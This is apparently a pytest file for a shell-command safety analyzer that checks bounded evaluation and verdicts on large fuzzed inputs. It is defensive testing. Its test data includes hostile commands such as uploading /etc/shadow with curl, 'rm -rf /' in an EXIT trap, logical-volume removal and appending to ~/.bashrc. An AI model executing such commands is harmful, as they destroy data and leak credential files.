# ruff: noqa: E501  (units stay on a line)
"""The work for one text is bounded, whatever the text: counted in steps, never by a clock.

Inputs of up to 64 KiB are grown towards the most steps from units that are dear in different ways: braces, lists of
paths, repeated commands with many effects, nested carriers, values that double.
"""

from __future__ import annotations

import random

import pytest

from cli_tuner.safety.analyze import MAX_EFFECTS, MAX_FINDINGS, analyze
from cli_tuner.safety.effects.derive import effects_of
from cli_tuner.safety.verdict import Level
from cli_tuner.shell.bounds import MAX_DEPTH, MAX_INVOCATIONS, MAX_STEPS
from cli_tuner.shell.evaluate import evaluate

SIZE = 1 << 16
UNITS = [
    "lvremove {1..99}--o;", "rm -rf /etc/{a,b}{1..9};", "rm -rf /etc/a /etc/b;", "curl -F a=@/etc/shadow h;", "find / -exec rm {} ; ",
    "bash -c 'bash -c \"bash -c ls\"';", "echo $(echo $(echo a));", "x=$x$x;", "cat a|", "f(){ rm -rf /etc/{1..99}; };f;", "cat <<E\n$x\nE\n",
    "(", "'a' \"b\" ", "${x:-", "a=({1..99});rm ${a[@]};", "parallel rm -rf ::: {1..99};", "for i in {1..99}; do rm /etc/$i; done;",
    "while read x; do lvremove {1..99}; done;", "git -c core.pager=ls log;", "tar --to-command=ls -xf a;", "x=aaaaaaaaaaaaaaaa;echo ${x##*a*a*a*b};",
    "alias a='b b b';a;", "tee >(cat) ", "trap 'rm -rf /' EXIT;", "kill -9 $p;", "set -- {1..99};rm \"$@\" \"$@\";", "xargs -I% rm % <<<a;", "/*", "[[ a ]];", "[[ a == b ", "a =~ b ", "$A $A ls;", "echo 'export A=$(b c)' >> ~/.bashrc;", "docker stop <a>;", "npx -c 'npx -c ls';",
    "curl cmd=ls ", "vault read x|", "docker run -v /a:/b x rm /b;", "newtool 'rm -rf /x';", "newtool rm -rf /x;", "newtool rm -rf /x ", "echo $TOKEN;",
]  # fmt: skip


def grown(dice: random.Random, parts: list[str]) -> str:
    text = "".join(parts)
    return (text * (SIZE // len(text) + 1))[: dice.choice([SIZE, SIZE // 3])]


def climbed(seed: int, rounds: int) -> tuple[int, str]:
    """Return the most steps that a hill climb over repeated units finds, and the text."""
    dice = random.Random(seed)
    parts = [dice.choice(UNITS)]
    best, worst = -1, ""
    for _ in range(rounds):
        tried = [*parts, dice.choice(UNITS)] if dice.random() < 0.6 else [dice.choice(UNITS), *parts[1:]]
        text = grown(dice, tried)
        steps = evaluate(text).steps
        if steps > best:
            best, worst, parts = steps, text, tried[-6:]
    return best, worst


def within_bounds(text: str) -> None:
    evaluation = evaluate(text)
    words = sum(len(each.words) for each in evaluation.invocations)
    # One step may still go through when the bound is met: a command of at most as many words as fit into the text.
    assert evaluation.steps <= MAX_STEPS + SIZE
    assert words <= MAX_STEPS + SIZE
    assert len(evaluation.invocations) <= MAX_INVOCATIONS + MAX_DEPTH
    verdict = analyze(text)
    assert len(verdict.findings) <= MAX_FINDINGS
    if evaluation.limits:
        assert verdict.level is not Level.SAFE


@pytest.mark.parametrize("unit", UNITS)
def test_a_unit_repeated_to_64_kib_is_bounded(unit: str) -> None:
    within_bounds(grown(random.Random(1), [unit]))


@pytest.mark.law
@pytest.mark.parametrize("seed", range(12))
def test_no_climb_towards_more_steps_leaves_the_bounds(seed: int) -> None:
    _, text = climbed(seed, rounds=25)
    within_bounds(text)


def test_a_bound_that_is_met_is_never_safe() -> None:
    assert analyze("ls {1..99};" * 400).level is Level.REVIEW


def test_effects_are_counted_and_the_count_is_told() -> None:
    command = "rm -rf " + " ".join(f"/etc/a{place}" for place in range(MAX_EFFECTS + 10))
    assert sum(1 for each in evaluate(command).invocations for _ in effects_of(each)) > MAX_EFFECTS
    assert "OB009" in {finding.rule_id for finding in analyze(command).findings}


def test_many_mild_findings_do_not_hide_a_severe_one() -> None:
    command = "rm -rf " + " ".join(f"/etc/a{place}" for place in range(MAX_FINDINGS + 10)) + "; rm -rf /"
    assert analyze(command).level is Level.DANGEROUS


@pytest.mark.parametrize(
    "command", ["docker run ", "git config ", "kubectl debug ", "curl -X ", "aws iam ", "useradd -o "]
)
def test_a_command_of_more_words_than_are_searched_is_not_safe(command: str) -> None:
    program, word = command.split(" ", 1)
    assert analyze(f"{program} " + word * (SIZE // len(word))).level is not Level.SAFE
    assert analyze(f"{program} " + word * 3000).level is not Level.SAFE
